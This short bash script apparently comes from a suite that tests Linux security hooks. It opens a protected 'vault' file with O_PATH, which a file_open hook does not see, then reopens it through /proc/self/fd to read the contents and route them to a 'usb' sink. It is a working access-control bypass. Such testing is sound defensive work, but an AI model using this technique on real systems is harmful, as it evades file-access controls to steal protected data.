#!/usr/bin/env bash
# technique: an O_PATH descriptor, which no hook sees, is opened again through /proc/self/fd
# hooks: file_open
# lock: vault
# sink: usb

. attack.sh
python3 - "$MASTER" <<'PY'
from attack import *

fd = os.open(sys.argv[1], os.O_PATH)
with open(f"/proc/self/fd/{fd}", "rb") as file:
    keep(file.read())
PY
